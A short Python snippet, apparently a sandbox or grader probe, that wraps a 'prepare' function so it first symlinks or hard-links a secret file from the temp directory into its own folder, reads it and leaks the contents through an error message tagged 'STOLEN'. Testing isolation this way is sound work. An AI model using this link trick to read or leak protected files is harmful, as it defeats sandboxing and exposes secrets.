# what: links a hidden file into its own folder and reads the link
# %% extra after=prepare
import os
import tempfile

honest_prepare = prepare


def attack():
    path = os.path.join(tempfile.gettempdir(), "corpus-secret.txt")
    for link in (os.symlink, os.link):
        try:
            link(path, "innocent.txt")
            return open("innocent.txt").read()
        except OSError:
            continue


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
